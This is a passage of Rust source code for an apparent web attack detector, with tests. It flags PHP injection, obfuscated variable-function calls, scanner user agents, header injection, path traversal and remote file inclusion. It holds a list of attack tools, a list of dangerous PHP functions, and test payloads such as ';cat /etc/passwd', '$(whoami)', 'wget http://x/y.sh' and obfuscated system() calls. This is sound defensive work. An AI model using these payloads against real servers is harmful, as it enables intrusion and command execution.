        _ => return None,
    };
    let mut depth = 0usize;
    for (i, &b) in s.iter().enumerate() {
        if b == open {
            depth += 1;
        } else if b == close {
            depth -= 1;
            if depth == 0 {
                return Some(i + 1);
            }
        }
    }
    None
}

/// A parenthesised or indexed expression called as a statement: `('sys'.'tem')('id');`,
/// `[system][0](ls);`, `(x)/**/('id');` (`callee` ends with the `)` or `]` before the `(`
/// at `open`). PHP 7 calls whatever such an expression yields, so a function name can be
/// assembled where no name is written. The call must end the statement (`;`) and pass
/// plain arguments (literals, names, variables: not `(int)(a / b);` or prose); the
/// statement must show PHP (a string, variable, index, concatenation or comment: a C cast
/// `(int)(x);` shows none) and hold no function body (`(function(){..})(jQuery);` is
/// JavaScript's module idiom).
fn group_call(v: &str, open: usize, callee: &str) -> bool {
    let Some(len) = group_len(&v[open..]) else {
        return false;
    };
    let args = &v[open + 1..open + len - 1];
    if !plain_args(args) || !v[open + len..].trim_start().starts_with(';') {
        return false;
    }
    let statement = &callee[callee.rfind(';').map_or(0, |p| p + 1)..];
    let php = statement.contains(['$', '\'', '"', '[', '.'])
        || statement.contains("/*")
        || args.contains(['$', '\'', '"']);
    php && !statement.contains(['{', '}']) && !statement.contains("=>")
}

/// A non-empty argument list of plain values separated by commas: strings, numbers,
/// names and variables (concatenated with `.`), comments allowed around them.
fn plain_args(args: &str) -> bool {
    let mut any = false;
    for part in args.split(',') {
        let mut p = skip_gap(part);
        // The comments and whitespace after the value.
        let mut end = p.len();
        while end > 0 {
            let (t, gap) = strip_gap_back(&p[..end]);
            if gap.is_empty() {
                break;
            }
            end = t.len();
        }
        p = &p[..end];
        let quoted = p.len() >= 2
            && (p.starts_with('\'') && p.ends_with('\'') || p.starts_with('"') && p.ends_with('"'));
        if !(quoted
            || !p.is_empty()
                && p.bytes().all(|b| {
                    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$' | b'.' | b'\'' | b'"')
                }))
        {
            return false;
        }
        any = true;
    }
    any
}

/// A variable called as a function: `$f(1)`, `$__['o'](5)`, `$$$z()`, `${_.__}(3)`,
/// `$a[@5]/**/[@d] ()`: a name held in a variable runs without being written. The `$`
/// starts a word (`sys$open()` and `LIB$SPAWN()` are VMS names), the variable is a PHP
/// name (or a non-empty `{..}`), its index groups non-empty, and the arguments are a
/// string, a number, a variable or nothing (`$env(HOME)` is a Tcl array, `$HOME (the
/// default)` prose).
fn variable_call(v: &str) -> bool {
    for i in positions(v, "$") {
        if i > 0 && (v.as_bytes()[i - 1].is_ascii_alphanumeric() || v.as_bytes()[i - 1] == b'_') {
            continue;
        }
        let mut r = v[i + 1..].trim_start_matches('$');
        if r.starts_with('{') {
            match group_len(r) {
                Some(n) if !r[1..n - 1].trim().is_empty() => r = &r[n..],
                _ => continue,
            }
        } else {
            let n = r
                .bytes()
                .position(|b| !(b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80))
                .unwrap_or(r.len());
            if n == 0 || r.as_bytes()[0].is_ascii_digit() {
                continue;
            }
            r = &r[n..];
        }
        // Index groups, whitespace and comments up to the argument list.
        loop {
            r = skip_gap(r);
            match group_len(r) {
                Some(n) if r.starts_with(['[', '{']) && !r[1..n - 1].trim().is_empty() => {
                    r = &r[n..]
                }
                _ => break,
            }
        }
        if !r.starts_with('(') || group_len(r).is_none() {
            continue;
        }
        let arg = skip_gap(&r[1..]);
        if arg.starts_with(['\'', '"', '$', ')']) || arg.starts_with(|c: char| c.is_ascii_digit()) {
            return true;
        }
    }
    false
}

/// PHP function names that are not words of any language but PHP.
const PHP_ONLY: &[&str] = &[
    "call_user_func",
    "call_user_func_array",
    "fsockopen",
    "pfsockopen",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "get_defined_functions",
    "get_defined_vars",
    "curl_init",
    "curl_exec",
    "posix_getegid",
    "posix_geteuid",
    "posix_getpwuid",
    "posix_kill",
    "posix_setuid",
    "print_r",
    "var_dump",
    "var_export",
    "strrev",
    "is_array",
    "str_rot13",
    "base64_decode",
    "shell_exec",
    "proc_open",
    "pcntl_exec",
    "create_function",
    "file_get_contents",
    "file_put_contents",
    "highlight_file",
    "show_source",
    "php_uname",
    "phpinfo",
    "move_uploaded_file",
    "preg_replace",
    "array_map",
    "array_filter",
    "array_walk",
    "register_shutdown_function",
    "register_tick_function",
    "ob_start",
    "ini_set",
    "ini_get",
    "set_error_handler",
    "stream_get_contents",
    "stream_socket_client",
    "escapeshellcmd",
    "escapeshellarg",
    "get_current_user",
    "getmypid",
    "disk_free_space",
    "readline_callback",
    "mb_ereg_replace",
    "iconv_substr",
    "parse_ini_file",
    "simplexml_load_file",
    "session_start",
    "str_replace",
    "json_decode",
    "hex2bin",
    "bin2hex",
    "unserialize",
    "openlog",
    "syslog",
    "passthru",
    "popen",
    "assert_options",
    "func_get_args",
    "fputs",
    "fwrite",
    "fopen",
    "readfile",
    "file_exists",
    "is_writable",
    "scandir",
    "glob",
    "chmod",
    "strip_tags",
    "filegroup",
    "fileowner",
    "fileperms",
    "fileinode",
];

/// Vulnerability scanners and attack tools (see [`is_scanner`]).
const SCANNER_TOOLS: &[&str] = &[
    "nikto",
    "sqlmap",
    "nmap",
    "masscan",
    "zgrab",
    "acunetix",
    "netsparker",
    "nessus",
    "openvas",
    "w3af",
    "wpscan",
    "dirbuster",
    "gobuster",
    "dirb",
    "wfuzz",
    "ffuf",
    "nuclei",
    "arachni",
    "skipfish",
    "whatweb",
    "havij",
    "jaascois",
    "burpcollaborator",
    "commix",
    "fimap",
    "grabber",
    "morfeus",
    "zmeu",
    "brutus",
    "hydra",
    "paros",
    "webinspect",
    "appscan",
    "qualys",
    "metasploit",
    "bsqlbf",
    "pangolin",
    "absinthe",
    "sql power injector",
    "webshag",
    "uniscan",
    "vega/",
    "xsser",
    "jbrofuzz",
    "zap/",
    "owasp zap",
    "nsauditor",
    "cgichk",
    "n-stealth",
    "mysqloit",
    "blackwidow",
    "floodgate",
    "netlab360",
    "fuzz faster",
    "feroxbuster",
    "(hydra)",
    "sf/",
    "crimscanner",
];

/// User agents (and similar headers) of vulnerability scanners and attack tools.
pub fn is_scanner(ua: &str) -> bool {
    is_scanner_marked(marks(ua))
}

/// [`is_scanner`] from the User-Agent's [`Marks`].
pub fn is_scanner_marked(marks: Marks) -> bool {
    marks.scanner()
}

/// Header injection in argument values: CR/LF followed by a header-like line
/// (`%0d%0aSet-Cookie:`), the response-splitting attack.
pub fn is_header_injection(v: &str) -> bool {
    for (i, _) in v.match_indices(['\r', '\n']) {
        let rest = v[i + 1..].trim_start_matches(['\r', '\n']);
        let name_len = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
            .unwrap_or(0);
        if name_len > 0 && rest[name_len..].starts_with(':') {
            return true;
        }
        if rest.starts_with("http/1") || rest.starts_with("<html") {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_inclusion_in_markup_and_known_parameters() {
        assert!(is_rfi_in_markup(
            r#"<?xml version="1.0"?><a probe="http://66.240.183.75/crash.php"></a>"#
        ));
        assert!(is_rfi_in_markup("<x>php://filter/resource=index</x>"));
        assert!(!is_rfi_in_markup(
            r#"<feed><link href="https://example.com/index.php?page=2"/></feed>"#
        ));
        assert!(is_rfi_parameter("_CONF[path]", "https://foo.bar"));
        assert!(is_rfi_parameter("mosConfig_absolute_path", "http://x/"));
        assert!(!is_rfi_parameter("_CONF[path]", "/var/www"));
        assert!(!is_rfi_parameter("next", "https://example.com/"));
    }

    #[test]
    fn traversal_spellings() {
        for p in [
            "../../etc/passwd",
            "..\\..\\boot.ini",
            "/etc/shadow",
            "....//....//x",
            "x=..;/admin",
        ] {
            assert!(is_traversal(p), "missed {p}");
        }
        assert!(is_traversal("../../"), "climbing two levels");
        for p in [
            "file..txt",
            "/docs/a.b/c",
            "1.2.3",
            "version 2..3",
            "<a href=\"../\">up</a>",
            "/docs/guide/../",
        ] {
            assert!(!is_traversal(p), "false positive on {p}");
        }
    }

    #[test]
    fn commands() {
        for p in [
            ";cat /etc/passwd",
            "| id",
            "$(whoami)",
            "`uname -a`",
            "a;${ifs}ls",
            "wget http://x/y.sh",
        ] {
            assert!(is_rce(p), "missed {p}");
        }
        for p in [
            "tom & jerry",
            "a;q=0.9",
            "cats and dogs",
            "ls is a word in this sentence",
        ] {
            assert!(!is_rce(p), "false positive on {p}");
        }
    }

    #[test]
    fn php() {
        assert!(is_php("<?php system('id'); ?>"));
        assert!(is_php("o:8:\"stdclass\":1:{s:1:\"a\";}"));
        assert!(is_php("php://filter/convert.base64-encode/resource=index"));
        assert!(is_php("<?=1?>"));
        assert!(is_php("<?\nsystem('id');"));
        assert!(!is_php("<?xml version=\"1.0\"?><a/>"));
        assert!(!is_php("session <?php"));
        assert!(!is_php("is this ok<? "));
    }

    #[test]
    fn php_open_tags_and_names() {
        // `<?xml :` is an open tag and a goto label to PHP; a declaration is not.
        assert!(is_php("<?xml :echo 1;"));
        assert!(!is_php("<?xml version=\"1.0\" encoding=\"utf-8\"?>"));
        assert!(!is_php("<?xml-stylesheet href=\"a.xsl\"?>"));
        assert!(is_php("ssh2.exec://user:pw@host:22/usr/bin/id"));
        assert!(is_php("/tmp/sess_d8ew88tqmabdcokhumchy8htqm"));
        assert!(!is_php("session_report.txt"));
        assert!(!is_php("mydata.sess"));
        assert!(is_php("shell.php5..."));
        assert!(!is_php("edit config.php."));
        assert!(!is_php("libstdc++.inc."));
        assert!(is_php("o:8:&quot;stdclass&quot;:0:&#x7b;&#x7d;"));
        assert!(php_upload("filename=\"photo. php\""));
        assert!(php_upload(
            "filename=\"/tmp/sess_d8ew88tqmabdcokhumchy8htqm\""
        ));
    }

    #[test]
    fn php_calls() {
        for p in [
            "exec\t(blah)",
            "exec #comment\r\n (blah)",
            "exec/* x */(blah)",
            "file\r\n()",
            "return\"system\"(xyz).s",
            "(system)(whoami)",
            "filegroup  (blah)",
            "strip_tags()",
            // Variable functions.
            "$_(3)",
            "$__['o'](5)",
            "$__[$_[1]](7)",
            "$a[@5]/*x*/[@d] ()",
            "@$___[@!+_](21)",
            "$b=@$s_func(22)",
            "$$$z(29)",
            "${_.__}(30);",
            "$a //x\n()",
            // Expressions called as statements.
            "(sy.(st).em)('uname');",
            "define('x', 'sys'.'tem');(x)/* c */('uname');",
            "[system][0](ls);",
            "[ system ] [ 0 ] ( ls );",
            "(['system'])[0]('uname');",
        ] {
            assert!(is_php(p), "missed {p}");
        }
        for p in [
            "the system (of rules)",
            "the system\n(of rules)",
            "the file\n(attached)",
            "$a//foo()",
            "$a[]()",
            "${}()",
            "$home (the default)",
            "$env(home) on windows",
            "fix sys$open() and lib$spawn() calls",
            "document clear_$slabname()",
            "(int)(x);",
            "(int)(1e9 / ((double)n));",
            "int (*cb)(ssl *, void *arg);",
            "refactored xsltattribute() (transform.c); better errors",
            "matches \" -[:alpha:]\" or \\(aq-[:alpha:] (for options); use it",
            "(function($){ run(); })(jquery);",
            "[acme]: this is, (another) test (foo)bar or foo(bar).",
            "(foo)/(bar)",
        ] {
            assert!(!is_php(p), "false positive on {p}");
        }
    }

    #[test]
    fn rfi_hosts() {
        assert!(is_rfi("https://[2001:41d0:701:1100::29c8]/gecko.php"));
        assert!(is_rfi("http://66.240.183.75/crash.php"));
        assert!(is_rfi("http://1089054027/x"));
        assert!(is_rfi("http://user:pw@10.0.0.1/x"));
        assert!(!is_rfi("https://www.example.com/account"));
        assert!(!is_rfi("https://[not-an-address]/x"));
    }
}
